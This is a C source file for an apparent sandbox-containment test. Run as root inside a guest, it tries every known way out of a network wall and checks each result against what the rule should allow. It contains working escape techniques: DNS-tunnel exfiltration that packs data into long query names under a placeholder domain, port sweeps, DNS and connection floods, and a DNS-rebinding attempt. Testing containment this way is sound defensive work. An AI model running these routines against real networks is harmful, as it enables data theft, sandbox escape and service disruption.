/* SPDX-License-Identifier: ISC */
/*
 * wall-attack-peer: root in a guest, who tries to get out by all ways that
 * somebody thought of.  A line for each: its name, what was seen, and "as it
 * should" or what should have been, with tabs between.
 *
 *	-l			lists the names
 *	tcp|udp|ping NAME:PORT	tries an honest way
 *
 * What a rule allows, for the test: all ports of BAIT, which must not be
 * reached all the same since no honest frame goes there; 93.184.215.14:7777;
 * and everything by the names under in.example, which lead inside.
 */
#include "wall-attack.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>

#include "wall-ways.h"

enum { TCP_MS = 4000, UDP_MS = 400, NAMES = 20000, FLOWS = 5000 };
enum { KEPT_MS = 31000 }; /* an answer that the gateway had, and then some */

#define RESOLVER "10.0.2.3"

static long long began;

/* "A:PORT" or "A" */
static struct sockaddr_in
place(const char *text)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	const char *colon = strchr(text, ':');
	char addr[64];

	(void)snprintf(addr, sizeof addr, "%.*s",
	    colon ? (int)(colon - text) : (int)strlen(text), text);
	(void)inet_pton(AF_INET, addr, &a.sin_addr);
	a.sin_port = htons(colon ? (uint16_t)strtol(colon + 1, NULL, 10) : 0);
	return a;
}

static const char *
trouble(int err)
{
	if (err == ECONNREFUSED)
		return "refused";
	if (err == EHOSTUNREACH || err == ENETUNREACH || err == EACCES ||
	    err == EINVAL)
		return "unreachable";
	return err == ETIMEDOUT ? "silent" : strerror(err);
}

static const char *
try_tcp(const struct sockaddr_in *a)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	struct pollfd p = { .fd = fd, .events = POLLOUT };
	socklen_t n = sizeof(int);
	int err = 0;

	if (connect(fd, (const struct sockaddr *)a, sizeof *a) < 0 &&
	    errno != EINPROGRESS)
		err = errno;
	else if (poll(&p, 1, TCP_MS) != 1)
		err = ETIMEDOUT;
	else
		(void)getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &n);
	close(fd);
	return err ? trouble(err) : "REACHED";
}

/* Send n bytes and wait for an answer, which is put there; its length in *n,
 * 0 for none. */
static const char *
exchange(
    int type, const struct sockaddr_in *a, uint8_t *data, size_t *n, size_t max)
{
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0), one = 1;
	struct pollfd p = { .fd = fd, .events = POLLIN };
	const char *what = "silent";
	ssize_t got = -1;

	(void)setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
	if (connect(fd, (const struct sockaddr *)a, sizeof *a) < 0 ||
	    send(fd, data, *n, MSG_NOSIGNAL) < 0)
		what = trouble(errno);
	else if (poll(&p, 1, UDP_MS) == 1) {
		got = recv(fd, data, max, 0);
		what = got < 0 ? trouble(errno) : got ? "REACHED" : "silent";
	}
	*n = got > 0 ? (size_t)got : 0;
	close(fd);
	return what;
}

static const char *
try_udp(const struct sockaddr_in *a)
{
	uint8_t data[2048] = "out";
	size_t n = 3;

	return exchange(SOCK_DGRAM, a, data, &n, sizeof data);
}

static const char *
try_ping(const struct sockaddr_in *a)
{
	char spec[64];

	(void)snprintf(
	    spec, sizeof spec, "icmp dst=%s data=40", inet_ntoa(a->sin_addr));
	return way_frames(spec);
}

/* ---- names ---- */

/* A question for the address of a name; its length. */
static size_t
question(uint8_t *q, const char *name, unsigned type)
{
	uint8_t *len = q + 12, *p = q + 13;

	memset(q, 0, 12);
	q[1] = 7;
	q[2] = q[5] = 1; /* recursion desired; one question */
	for (; *name; name++)
		if (*name == '.' && name[1]) {
			*len = (uint8_t)(p - len - 1);
			len = p++;
		} else if (*name != '.')
			*p++ = (uint8_t)*name;
	*len = (uint8_t)(p - len - 1);
	*p++ = 0;
	put16(p, type);
	put16(p + 2, 1);
	return (size_t)(p + 4 - q);
}

/* What an answer to it tells; the address in *a. */
static const char *
told(const uint8_t *r, size_t n, size_t asked, struct sockaddr_in *a)
{
	if (n < 12 || !(r[2] & 128))
		return "REACHED a liar";
	if (get16(r + 6) == 0 || n < asked + 16)
		return "told nothing";
	memcpy(&a->sin_addr, r + asked + 12, 4);
	if (ntohl(a->sin_addr.s_addr) >> 17 == 0xc612 >> 1 ||
	    a->sin_addr.s_addr == inet_addr("10.0.2.2"))
		return "told by our resolver";
	return "REACHED a resolver";
}

static const char *
ask(const char *server, const char *name, unsigned type, struct sockaddr_in *a)
{
	struct sockaddr_in s = place(server);
	uint8_t data[2048];
	size_t n = question(data, name, type), asked = n;
	const char *what;

	s.sin_port = htons(53);
	what = exchange(SOCK_DGRAM, &s, data, &n, sizeof data);
	return n ? told(data, n, asked, a) : what;
}

const char *
way_ask(const char *server)
{
	struct sockaddr_in a;

	return ask(server, "exfil.secret.example", 1, &a);
}

const char *
way_ask_tcp(const char *server)
{
	struct sockaddr_in s = place(server);
	uint8_t data[2048];
	size_t n = question(data + 2, "exfil.secret.example", 1);

	put16(data, n);
	n += 2;
	s.sin_port = htons(53);
	return exchange(SOCK_STREAM, &s, data, &n, sizeof data);
}

/* Data in names: 40 questions of 200 bytes, of all types. */
const char *
way_exfiltrate(const char *domain)
{
	const char *seen = "told by our resolver", *what;
	struct sockaddr_in a;
	char name[256];

	for (unsigned i = 0; i < 40; i++) {
		(void)snprintf(name, sizeof name, "%060u.%060u.%060u.%s", i,
		    i * 7919, i * 104729, domain);
		what = ask(RESOLVER, name, i % 2 ? 1 : 16, &a);
		if (*what == 'R' || *what == 's')
			seen = what;
	}
	return seen;
}

/* Bytes that are none of a name. */
const char *
way_odd_name(const char *name)
{
	struct sockaddr_in a;

	return ask(RESOLVER, name, 1, &a);
}

/* "NAME:PORT": what it leads to is tried by TCP, by UDP, by ping. */
static const char *
by_name(const char *arg, const char *(*try)(const struct sockaddr_in *))
{
	const char *colon = strchr(arg, ':'), *what;
	struct sockaddr_in a = place(colon ? colon : ":0");
	char name[256];

	(void)snprintf(name, sizeof name, "%.*s",
	    colon ? (int)(colon - arg) : (int)strlen(arg), arg);
	what = ask(RESOLVER, name, 1, &a);
	return strcmp(what, "told by our resolver") == 0 ? try(&a) : what;
}

const char *
way_name_tcp(const char *arg)
{
	return by_name(arg, try_tcp);
}

const char *
way_name_udp(const char *arg)
{
	return by_name(arg, try_udp);
}

const char *
way_name_ping(const char *arg)
{
	return by_name(arg, try_ping);
}

/* ---- places ---- */

const char *
way_tcp(const char *arg)
{
	struct sockaddr_in a = place(arg);

	return try_tcp(&a);
}

const char *
way_udp(const char *arg)
{
	struct sockaddr_in a = place(arg);

	return try_udp(&a);
}

/* Many ports of an address: what most of them say, or the worst. */
static const char *
sweep(const char *addr, const char *(*try)(const struct sockaddr_in *))
{
	static const uint16_t ports[] = { 1, 7, 21, 22, 23, 25, 67, 80, 111,
		139, 443, 445, 631, 1080, 2049, 3128, 5353, 6000, 8080, 9050 };
	const char *seen = "refused", *what;
	struct sockaddr_in a = place(addr);

	for (size_t i = 0; i < sizeof ports / sizeof *ports; i++) {
		a.sin_port = htons(ports[i]);
		what = try(&a);
		if (strcmp(what, "refused") != 0 && *seen != 'R')
			seen = what;
	}
	return seen;
}

const char *
way_sweep_tcp(const char *addr)
{
	return sweep(addr, try_tcp);
}

const char *
way_sweep_udp(const char *addr)
{
	return sweep(addr, try_udp);
}

/* ---- frames ---- */

static void
send_frames(const char *specs)
{
	char text[1024], *save;
	struct spec s;

	(void)snprintf(text, sizeof text, "%s", specs);
	next_port++;
	for (char *t = strtok_r(text, ";", &save); t;
	     t = strtok_r(NULL, ";", &save)) {
		spec_read(&s, t);
		send_spec(&s);
	}
}

const char *
way_frames(const char *specs)
{
	drain_wire();
	send_frames(specs);
	return listen_wire(QUIET_MS, strncmp(specs, "arp", 3) == 0);
}

/* ---- floods ---- */

const char *
way_flood_names(const char *domain)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in s = place(RESOLVER ":53"), a;
	struct pollfd p = { .fd = fd, .events = POLLIN };
	const char *seen = "told by our resolver", *what;
	uint8_t data[512];
	char name[128];
	int out = 0;

	if (connect(fd, (struct sockaddr *)&s, sizeof s) < 0)
		return trouble(errno);
	for (int i = 0; i < NAMES; i++) {
		size_t asked;

		(void)snprintf(name, sizeof name, "n%05d.%s", i, domain);
		asked = question(data, name, 1);
		out += send(fd, data, asked, 0) > 0;
		while (poll(&p, 1, out > 32 ? UDP_MS : 0) == 1 && out-- > 0) {
			ssize_t n = recv(fd, data, sizeof data, 0);

			what = n > 0 ? told(data, (size_t)n, asked, &a) :
				       trouble(errno);
			if (strcmp(what, "told by our resolver") != 0)
				seen = what;
		}
	}
	close(fd);
	return out > NAMES / 10 ? "silent" : seen;
}

/* First frames of flows, to everywhere. */
const char *
way_flood_flows(const char *kind)
{
	char spec[128];

	drain_wire();
	for (unsigned i = 0; i < FLOWS; i++) {
		(void)snprintf(spec, sizeof spec,
		    "%s dst=%u.%u.%u.%u sport=%u dport=%u", kind,
		    i % 7 ? 93U : 198U, i % 7 ? 184U : 18U, i / 250 + 1,
		    i % 250 + 1, 1024 + i, i % 3 ? 443 : 1 + i);
		send_frames(spec);
		if (i % 256 == 0)
			(void)listen_wire(1, 0);
	}
	return listen_wire(1000, 0);
}

/* Allowed ones, more than there may be. */
const char *
way_flood_allowed(const char *spec)
{
	drain_wire();
	for (unsigned i = 0; i < 600; i++)
		send_frames(spec);
	return listen_wire(1000, 0);
}

/* A name that led elsewhere before we began. */
const char *
way_rebind(const char *arg)
{
	long long left = began + KEPT_MS - now_ms();

	if (left > 0)
		(void)poll(NULL, 0, (int)left);
	return way_name_tcp(arg);
}

static void
attack(void)
{
	for (const struct way *w = ways; w->name; w++) {
		const char *seen = w->go(w->arg);

		printf("%s\t%s\t%s\n", w->name, seen,
		    strcmp(seen, w->want) == 0 ? "as it should" : w->want);
	}
}

int
main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(what, "-l") == 0) {
		for (const struct way *w = ways; w->name; w++)
			puts(w->name);
		return 0;
	}
	wire_open("eth0");
	began = now_ms();
	if (argc == 1)
		attack();
	else if (argc == 3)
		puts(*what == 't'    ? way_name_tcp(argv[2]) :
			*what == 'u' ? way_name_udp(argv[2]) :
				       way_name_ping(argv[2]));
	return argc == 2;
}
